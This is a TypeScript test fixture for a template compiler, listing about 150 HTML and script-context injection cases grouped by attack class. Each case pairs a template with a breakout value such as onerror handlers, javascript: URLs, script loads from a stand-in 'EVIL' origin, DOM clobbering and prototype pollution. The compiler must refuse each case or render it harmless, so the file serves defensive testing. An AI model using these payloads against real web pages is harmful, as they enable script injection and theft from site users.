// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template literals of the pixels, not of the proof
/**
 * Templates that would let a value out of its place, or hide what they do: by class of attack, as the tests of Go's
 * html/template, PortSwigger's cheat sheet, H5SC and DOMPurify's tests group them; the cases are our own. The compiler has to
 * refuse each, or what it makes of it has to be harmless.
 *
 * In a pattern SLOT is the parameter, ID a name of its own and PARTNER the origin of an approved partner; in its value CODE is
 * code that tells, and EVIL the origin that nobody approved.
 */
import { type Canary, code } from './values.ts';
import type { Mode, Trial } from './way.ts';

interface Row {
  pattern: string;
  /** does harm where it is put in as it is; without one there is no harm in browsers of today */
  value?: string;
}

const BREAKS: Record<string, readonly Row[]> = {
  'names and bare attributes': [
    { pattern: '<img alt=SLOT src="x:">', value: 'a onerror=CODE' },
    { pattern: '<img src="x:" SLOT="a">', value: 'onerror=CODE x' },
    { pattern: '<p data-SLOT="a"></p>', value: 'a="b"><img src=x: onerror=CODE><p x' },
    { pattern: '<SLOT></SLOT>', value: 'img src=x: onerror=CODE' },
    { pattern: "<p title='a'SLOT>x</p>", value: '><img src=x: onerror=CODE' },
    { pattern: '<p title="a"title="SLOT">x</p>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<p/title="SLOT"/>', value: '"><img src=x: onerror=CODE>' },
    { pattern: "<p title='SLOT'>x</p>", value: "'><img src=x: onerror=CODE>" },
    { pattern: '<p title="SLOT">x</p>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<p title=`SLOT`>x</p>', value: '`><img src=x: onerror=CODE>' },
  ],
  'attributes that run code': [
    { pattern: '<img src="x:" onerror="String(\'SLOT\')">', value: "'-CODE-'" },
    { pattern: '<img src="x:" onerror="SLOT">', value: 'CODE' },
    { pattern: '<img src="x:" ONERROR="var a = &quot;SLOT&quot;">', value: '&quot;-CODE-&quot;' },
    { pattern: '<svg onload="SLOT"></svg>', value: 'CODE' },
    { pattern: '<details open ontoggle="SLOT">x</details>', value: 'CODE' },
    { pattern: '<input autofocus onfocus="SLOT">' },
    { pattern: '<video src="x:" onerror="SLOT"></video>', value: 'CODE' },
    { pattern: '<video><source src="x:" onerror="SLOT"></video>', value: 'CODE' },
    { pattern: '<p oncontentvisibilityautostatechange="SLOT" style="content-visibility:auto">x</p>', value: 'CODE' },
    { pattern: '<div popover id="ID" onbeforetoggle="SLOT">x</div><script>ID.showPopover()</script>', value: 'CODE' },
    {
      pattern:
        '<p data-value="SLOT" onclick="eval(this.dataset.value)"></p><script>document.querySelector("[onclick]").click()</script>',
      value: 'CODE',
    },
    { pattern: '<img src="x:" alt="SLOT" onerror="eval(this.alt)">', value: 'CODE' },
    { pattern: '<img src="x:" alt="SLOT" onerror="eval(event.target.alt)">', value: 'CODE' },
    { pattern: '<img src="x:" alt="SLOT" onerror="eval(alt)">', value: 'CODE' },
    {
      pattern: '<img src="x:" alt="SLOT" onerror="this[`outerHTML`] = `<img src=x: onerror=` + this.alt + `>`">',
      value: 'CODE',
    },
  ],
  'addresses that carry code': [
    { pattern: '<a href="SLOT" id="ID">x</a><script>ID.click()</script>', value: 'javascript:CODE' },
    { pattern: '<iframe src="SLOT"></iframe>', value: 'javascript:CODE' },
    { pattern: '<iframe src="javascript:SLOT"></iframe>', value: 'CODE' },
    { pattern: '<iframe src="java&Tab;script:String(\'SLOT\')"></iframe>', value: "'-CODE-'" },
    { pattern: '<iframe src="data:text/html,SLOT"></iframe>', value: '<script>CODE</script>' },
    { pattern: '<iframe src="about:SLOT"></iframe>' },
    { pattern: '<iframe srcdoc="<p>SLOT</p>"></iframe>', value: '<script>CODE</script>' },
    { pattern: '<object data="SLOT"></object>', value: 'data:text/html,<script>CODE</script>' },
    { pattern: '<embed src="SLOT">', value: 'data:text/html,<script>CODE</script>' },
    { pattern: '<form action="SLOT" id="ID"></form><script>ID.submit()</script>', value: 'javascript:CODE' },
    {
      pattern: '<form><button formaction="SLOT" id="ID"></button></form><script>ID.click()</script>',
      value: 'javascript:CODE',
    },
    { pattern: '<meta http-equiv="refresh" content="0;url=SLOT">' },
    { pattern: '<base href="SLOT"><script src="canary/NUMBER.js"></script>', value: 'EVIL/' },
    { pattern: '<script src="SLOT"></script>', value: 'EVIL/canary/NUMBER.js' },
    { pattern: '<script src="https:SLOT"></script>' },
    { pattern: '<script src="PARTNERSLOT"></script>' },
    { pattern: '<script src="PARTNER/SLOT"></script>', value: 'canary/NUMBER.js' },
    { pattern: '<script src="PARTNER/a/SLOT/NUMBER.js"></script>', value: '../canary' },
    { pattern: '<script src="//SLOT/a.js"></script>' },
    { pattern: '<link rel="stylesheet" href="SLOT">', value: 'EVIL/asked/NUMBER' },
    { pattern: '<img srcset="SLOT 1x">', value: 'EVIL/asked/NUMBER' },
    { pattern: '<img src="SLOT">', value: 'EVIL/asked/NUMBER' },
    { pattern: '<video poster="SLOT"></video>', value: 'EVIL/asked/NUMBER' },
    { pattern: '<a href="PARTNER/" ping="SLOT" id="ID">x</a><script>ID.click()</script>' },
    { pattern: '<svg><a xlink:href="SLOT"><text id="t">x</text></a></svg>' },
    { pattern: '<svg><use href="SLOT"></use></svg>' },
    { pattern: '<svg><image href="SLOT"></image></svg>', value: 'EVIL/asked/NUMBER' },
    { pattern: '<svg><script href="SLOT"></script></svg>', value: 'EVIL/canary/NUMBER.js' },
    { pattern: '<svg><a><set attributeName="href" to="SLOT"></set><text>x</text></a></svg>' },
    { pattern: '<math href="SLOT">x</math>' },
  ],
  'texts that are read otherwise': [
    { pattern: '<p>SLOT</p>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<textarea>SLOT</textarea>', value: '</textarea><img src=x: onerror=CODE>' },
    { pattern: '<title>SLOT</title>', value: '</title><img src=x: onerror=CODE>' },
    { pattern: '<style>SLOT</style>', value: '</style><img src=x: onerror=CODE>' },
    { pattern: '<style>p { color: SLOT }</style><p>x</p>', value: 'red;background:url(EVIL/asked/NUMBER)' },
    { pattern: '<p style="color:SLOT">x</p>', value: 'red;background:url(EVIL/asked/NUMBER)' },
    { pattern: '<xmp>SLOT</xmp>', value: '</xmp><img src=x: onerror=CODE>' },
    { pattern: '<noembed>SLOT</noembed>', value: '</noembed><img src=x: onerror=CODE>' },
    { pattern: '<iframe>SLOT</iframe>', value: '</iframe><img src=x: onerror=CODE>' },
    { pattern: '<noscript>SLOT</noscript>', value: '</noscript><img src=x: onerror=CODE>' },
    { pattern: '<noscript><p title="SLOT">x</p></noscript>', value: '</noscript><img src=x: onerror=CODE>' },
    { pattern: '<plaintext>SLOT' },
    { pattern: '<!-- SLOT -->', value: '--><img src=x: onerror=CODE>' },
    { pattern: '<!--[if IE]>SLOT<![endif]-->', value: '--><img src=x: onerror=CODE>' },
    { pattern: '<![CDATA[SLOT]]>', value: '><img src=x: onerror=CODE>' },
    { pattern: '<?php SLOT ?>', value: '><img src=x: onerror=CODE>' },
    { pattern: '<p>&SLOT</p>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<template shadowrootmode="open">SLOT</template>' },
    { pattern: '<div><template shadowrootmode="open">SLOT</template></div>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<meta charset="iso-2022-jp"><p title="SLOT">x</p>', value: '"><img src=x: onerror=CODE>' },
  ],
  'other vocabularies': [
    { pattern: '<svg><style>SLOT</style></svg>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<svg><title>SLOT</title></svg>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<svg><desc><p title="SLOT"></p></desc></svg>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<svg><script>String("SLOT")</script></svg>', value: '"-CODE-"' },
    { pattern: '<svg><foreignObject><p>SLOT</p></foreignObject></svg>', value: '<img src=x: onerror=CODE>' },
    {
      pattern: '<math><mtext><table><mglyph><style>SLOT</style></mglyph></table></mtext></math>',
      value: '</style><img src=x: onerror=CODE>',
    },
    {
      pattern: '<math><annotation-xml encoding="text/html"><style>SLOT</style></annotation-xml></math>',
      value: '</style><img src=x: onerror=CODE>',
    },
    {
      pattern: '<form><math><mtext></form><form><mglyph><style>SLOT</style></mglyph></form></math>',
      value: '</style><img src=x: onerror=CODE>',
    },
    { pattern: '<svg></p><style><p title="SLOT"></style></svg>', value: '</style><img src=x: onerror=CODE>' },
    { pattern: '<table><p title="SLOT">x</p></table>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<select><option>SLOT</option></select>', value: '</select><img src=x: onerror=CODE>' },
    { pattern: '<x-order is="SLOT">SLOT</x-order>', value: '"><img src=x: onerror=CODE>' },
  ],
  'scripts, where a value isn’t a value': [
    { pattern: '<script>SLOT</script>', value: 'CODE' },
    { pattern: '<script>"SLOT"</script>', value: '"-CODE-"' },
    { pattern: "<script>var a = 'SLOT'</script>", value: "'-CODE-'" },
    { pattern: '<script>var a = SLOT</script>', value: 'CODE' },
    { pattern: '<script>var a = "\\SLOT"</script>', value: '\\"-CODE-"' },
    { pattern: '<script>var a = "\\u00SLOT"</script>' },
    { pattern: '<script>var a = "\\\nSLOT"</script>', value: '"-CODE-"' },
    { pattern: '<script>var a = `SLOT`</script>', value: '${CODE}' },
    { pattern: '<script>var a = `${"SLOT"}`</script>', value: '"-CODE-"' },
    { pattern: '<script>var a = `${`SLOT`}`</script>', value: '${CODE}' },
    { pattern: '<script>var a = /SLOT/</script>', value: 'a/;CODE;/a' },
    { pattern: '<script>var a = /[SLOT]/</script>', value: 'a]/;CODE;/[a' },
    { pattern: '<script>var a = 8 / SLOT / 2</script>', value: 'CODE' },
    { pattern: '<script>var a = b => ({ SLOT: 1 })</script>', value: 'a:1}),c=CODE,d=({x' },
    { pattern: '<script>var a = { "SLOT": 1 }</script>', value: 'b":CODE,"c' },
    { pattern: '<script>var a = {}; a.SLOT = 1</script>', value: 'b=CODE,a.c' },
    { pattern: '<script>({}).SLOT</script>', value: 'a,CODE' },
    { pattern: '<script>SLOT()</script>', value: 'CODE,String' },
    { pattern: '<script>window["SLOT"]("x")</script>', value: 'eval"]("CODE");window["String' },
    { pattern: '<script>function a(SLOT) {} a()</script>', value: 'b=CODE' },
    { pattern: '<script>var a // SLOT</script>', value: '\nCODE' },
    { pattern: '<script>/* SLOT */</script>', value: '*/CODE/*' },
    { pattern: '<script><!-- SLOT\n</script>', value: '\nCODE' },
    { pattern: '<script>var a = "<!--<script>SLOT"</script>', value: '"-CODE//--></script>' },
    { pattern: '<script>var a = "</scrSLOTipt>"</script>' },
    { pattern: '<script>var a = "<SLOT"</script>', value: '/script><img src=x: onerror=CODE>' },
    { pattern: '<script>import("SLOT")</script>', value: 'data:text/javascript,CODE' },
    { pattern: '<script type="module">import "SLOT"</script>', value: 'data:text/javascript,CODE' },
    { pattern: '<script type="module">import "PARTNER/SLOT"</script>' },
    {
      pattern: '<script type="importmap">{"imports":{"a":"SLOT"}}</script><script type="module">import "a"</script>',
      value: 'data:text/javascript,CODE',
    },
    { pattern: '<script type="speculationrules">{"prefetch":[{"urls":["SLOT"]}]}</script>' },
    { pattern: '<script type="SLOT">f()</script>' },
    { pattern: '<script type="text/template">SLOT</script>', value: '</script><img src=x: onerror=CODE>' },
    { pattern: '<script nonce="SLOT">f()</script>', value: '">CODE</script><script>a("' },
    {
      pattern: '<script src="PARTNER/lib.js" integrity="SLOT"></script>',
      value: '"></script><img src=x: onerror=CODE>',
    },
    { pattern: '<script type="application/json">{"SLOT":1}</script>', value: '</script><img src=x: onerror=CODE>' },
    { pattern: '<script type="application/json">SLOT</script>', value: '</script><img src=x: onerror=CODE>' },
    { pattern: '<script>throw "SLOT"</script>', value: '"-CODE-"' },
    { pattern: '<script>with (document) write("SLOT")</script>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<script>for (var a in "SLOT") eval("a" + a)</script>', value: '"-CODE-"' },
    { pattern: '<script>var a = eval; a("SLOT")</script>', value: 'CODE' },
  ],
  'what writes or reads markup': [
    {
      pattern: `<script>document.write('<img alt="SLOT" src="PARTNER/p">')</script>`,
      value: '"><img src=x: onerror=CODE>',
    },
    { pattern: `<script>document.write("<img src='PARTNER/p?v=SLOT'>")</script>`, value: "'onerror='CODE" },
    { pattern: `<script>document.write("<img src=PARTNER/p?v=SLOT>")</script>`, value: ' onerror=CODE' },
    { pattern: `<script>document.write('<script>String("SLOT")</scr' + 'ipt>')</script>`, value: `\\"-CODE-\\"` },
    { pattern: `<script>document.write('<iframe src="SLOT"></iframe>')</script>`, value: 'javascript:CODE' },
    {
      pattern: '<p id="ID">SLOT</p><script>ID.innerHTML = ID.textContent</script>',
      value: '&lt;img src=x: onerror=CODE>',
    },
    {
      pattern: '<p id="ID" title="SLOT"></p><script>ID.outerHTML = ID.title</script>',
      value: '<img src=x: onerror=CODE>',
    },
    {
      pattern: '<p id="ID" title="SLOT"></p><script>ID.innerHTML = ID.attributes[1].value</script>',
      value: '<img src=x: onerror=CODE>',
    },
    {
      pattern: '<textarea id="ID">SLOT</textarea><script>document.write(document.all.ID.value)</script>',
      value: '<img src=x: onerror=CODE>',
    },
    { pattern: '<script type="text/x-order" id="ID">SLOT</script><script>eval(ID.text)</script>', value: 'CODE' },
    {
      pattern: '<script>var s = document.currentScript.text; /* "SLOT" */ eval(s.match(/"(.*?)"/)[1])</script>',
      value: 'CODE',
    },
    { pattern: '<p ng-app ng-csp>SLOT</p><script src="PARTNER/angular.js"></script>' },
    { pattern: '<p id="app" v-html="a">SLOT</p><script src="PARTNER/vue.js"></script>' },
    { pattern: '<p data-bind="html: \'SLOT\'"></p>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<div hx-get="SLOT" hx-trigger="load"></div>', value: '"><img src=x: onerror=CODE>' },
  ],
  'names that hide the page’s': [
    { pattern: '<img id="SLOT">', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<img name="SLOT">', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<form id="SLOT"><input name="action"></form>', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<a id="ID" href="SLOT">x</a><script>(0, eval)(String(ID))</script>', value: 'javascript:CODE' },
    {
      pattern:
        '<a id="ID"></a><a id="ID" name="src" href="SLOT">x</a><script>document.body.append(Object.assign(document.createElement("script"), { src: ID.src }))</script>',
      value: 'EVIL/canary/NUMBER.js',
    },
    { pattern: '<iframe name="currentScript" src="PARTNER/SLOT"></iframe>' },
    { pattern: '<script>Object.prototype["SLOT"] = "a"</script>', value: '"];CODE;a["' },
    { pattern: '<script>({}).__proto__.order = "SLOT"; eval(({}).order)</script>', value: 'CODE' },
  ],
  'left open': [
    { pattern: '<img src="PARTNER/p?SLOT', value: '"><img src=x: onerror=CODE>' },
    { pattern: "<img src='PARTNER/p?<p>SLOT</p>" },
    { pattern: '<textarea>SLOT', value: '</textarea><img src=x: onerror=CODE>' },
    { pattern: '<style>@import "PARTNER/p?SLOT', value: '</style><img src=x: onerror=CODE>' },
    { pattern: '<!-- SLOT', value: '--><img src=x: onerror=CODE>' },
    { pattern: '<script>f("SLOT")', value: '</script><img src=x: onerror=CODE>' },
    { pattern: '<p title="SLOT', value: '"><img src=x: onerror=CODE>' },
    { pattern: '<p>SLOT', value: '<img src=x: onerror=CODE>' },
    { pattern: '</body><p>SLOT</p>', value: '<img src=x: onerror=CODE>' },
    { pattern: '</script><p>SLOT</p>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<b><p>SLOT</b></p>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<a><a>SLOT</a></a>', value: '<img src=x: onerror=CODE>' },
    { pattern: '<frameset onload="SLOT"></frameset>' },
    { pattern: '<body onload="SLOT">' },
  ],
};

/** Each for both modes, numbered from `first`. */
export function smugglers(first: number, canary: Canary): Trial[] {
  const modes: readonly Mode[] = ['sandbox', 'main'];
  const rows = Object.entries(BREAKS).flatMap(([family, rows]) =>
    rows.flatMap((row) => modes.map((mode) => ({ family, mode, ...row }))),
  );
  return rows.map(({ family, mode, pattern, value }, at) => {
    const number = first + at;
    const fill = (text: string) =>
      text
        .replaceAll('PARTNER', () => canary.partner)
        .replaceAll('EVIL', () => canary.evil)
        .replaceAll('NUMBER', () => String(number))
        .replaceAll('ID', () => `id${number}`);
    const parameter = `W${number}`;
    return {
      number,
      mode,
      name: family,
      kind: 'markup',
      parameter,
      template: fill(pattern).replaceAll('SLOT', () => `{{${parameter}}}`),
      ...(value !== undefined && { value: fill(value).replaceAll('CODE', () => code(number, canary)) }),
    };
  });
}
